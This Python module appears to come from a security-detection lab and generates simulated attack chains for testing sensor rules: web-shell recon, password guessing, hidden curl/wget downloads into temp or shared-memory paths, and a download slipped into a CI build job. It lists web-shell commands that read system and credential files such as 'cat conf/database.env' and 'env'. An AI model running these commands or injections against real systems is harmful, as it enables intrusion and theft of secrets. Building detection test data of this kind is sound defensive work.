"""The malicious sides of matched pairs: a benign job's own match, after something else."""

import math
import random
import time
from collections.abc import Callable
from dataclasses import dataclass

from foreseen.lab.attacks.tools import Attack
from foreseen.lab.layout import CI, MONITOR, SHM, TMP
from foreseen.lab.templates import TOOLS
from foreseen.lab.themes import THEMES
from foreseen.lab.workloads.bastion import errand
from foreseen.lab.workloads.ci import fetch, submit

RULES = {
    "discovery_command": "inventory",
    "compiler_run": "probe",
    "archive_tool": "bundle",
    "outbound_by_interpreter": "beat",
}
"""The four sensor rules that match most often on the lab's work, and the tool that matches each."""

_STEPS = {
    "inventory": "T1057",
    "probe": "T1027.004",
    "bundle": "T1560.001",
    "beat": "T1071.001",
}


@dataclass(frozen=True, slots=True)
class Lane:
    """Where pairs of one kind are played one after the other: kind, node, runs for each rule."""

    chain: str
    node: str
    each: int


LANES = (
    Lane("pair_web_shell", "web-1", 13),
    Lane("pair_failed_logins", "bastion-1", 13),
    Lane("pair_odd_download_login", "bastion-1", 4),
    Lane("pair_odd_download_build", "ci-1", 9),
)


def lanes(rng: random.Random, share: float = 1.0) -> dict[str, list[tuple[str, str, int]]]:
    """By node, the (chain, rule, number) of its runs in random order; a share of them."""
    assert set(RULES.values()) == set(TOOLS)  # noqa: S101 -- two tables of one thing
    found: dict[str, list[tuple[str, str, int]]] = {}
    for lane in LANES:
        runs = [
            (lane.chain, rule, place * lane.each + number)
            for place, rule in enumerate(RULES)
            for number in range(math.ceil(lane.each * share))
        ]
        found.setdefault(lane.node, []).extend(runs)
    for runs in found.values():
        rng.shuffle(runs)
    return found


def web_shell(attack: Attack) -> None:
    """Requests through the shop's hole, then a tool: by the shop's own page, or by the hole."""
    attack.run.step("T1059.004")
    for _ in range(attack.rng.randint(2, 3)):
        attack.web(attack.rng.choice(_LOOKS))
        attack.pause(0.2, 1.0)
    attack.run.step(_STEPS[attack.run.tool])
    if attack.run.number % 2:
        attack.task(attack.run.tool)
    else:
        attack.web(_tool(attack))


_LOOKS = (
    "ls -la",
    "cat /etc/issue",
    "ls conf run",
    "cat conf/database.env",
    "env",
    "pwd;ls ..",
    "head -3 /etc/services",
    "find . -maxdepth 2 -newer app",
)


def _tool(attack: Attack) -> str:
    return f"{MONITOR}/{attack.run.tool}.sh T{attack.rng.randint(100, 9999)}"


def failed_logins(attack: Attack) -> None:
    """A password guesser's failures, the success, then what a benign errand does."""
    user = attack.rng.choice(("alice", "bob", "ops"))
    attack.guess(user, attack.rng.randint(4, 7))
    _session(attack, user, ())


def odd_download_login(attack: Attack) -> None:
    """A session in which something is fetched from an address that nobody knows, then a tool."""
    _session(attack, attack.rng.choice(("alice", "bob", "ops")), (_download(attack),))


def _session(attack: Attack, user: str, before: tuple[str, ...]) -> None:
    login = attack.login(user)
    for line in before:
        attack.run.step("T1105")
        login.type(line, attack.rng.uniform(0.6, 1.6))
    *looks, _ = errand(attack.rng)
    for line in looks:
        login.type(line, attack.rng.uniform(1, 9))
    attack.run.step(_STEPS[attack.run.tool])
    login.type(_tool(attack), attack.rng.uniform(1.2, 2.5))
    login.close()


def _download(attack: Attack) -> str:
    path, address = attack.hidden(where=(TMP, SHM)), attack.serve()
    return attack.choose(
        f"curl -s {address} -o {path}", f"wget -q {address} -O {path}", f"curl -so {path} {address}"
    )


def odd_download_build(attack: Attack) -> None:
    """A build that fetches something odd besides its sources, then runs a tool as builds do."""
    kind = attack.choose("build", "test", "nightly")
    name = f"{kind}-{attack.rng.randint(5000, 9000)}"
    attack.run.root("text", f"/srv/ci/work/{name}/job.sh")
    attack.run.step("T1105")
    package = attack.rng.choice(THEMES[attack.run.part].c_packages)
    first, unpack, rest = fetch(package).split("\n", 2)
    submit(name, f"{first}\n{unpack}\n{_download(attack)}\n{_tool(attack)}\n{rest}{_REST}")
    _built(name)


_REST = "find . -type f | sort > MANIFEST\nsha256sum $(cat MANIFEST) > SUMS\n"
_LONGEST_WAIT = 100


def _built(name: str) -> None:
    """Wait until the runner is done with a job.

    Raises:
        TimeoutError: it is not.
    """
    results = CI / "logs" / "results"
    for _ in range(_LONGEST_WAIT):
        time.sleep(1)
        if results.exists() and f"{name} " in results.read_text():
            return
    raise TimeoutError(f"job {name} did not end")


CHAINS: dict[str, Callable[[Attack], None]] = {
    "pair_web_shell": web_shell,
    "pair_failed_logins": failed_logins,
    "pair_odd_download_login": odd_download_login,
    "pair_odd_download_build": odd_download_build,
}


def before(chain: str) -> str:
    """What comes before the match in a chain: web_shell, failed_logins or odd_download."""
    return chain.removeprefix("pair_").removesuffix("_login").removesuffix("_build")
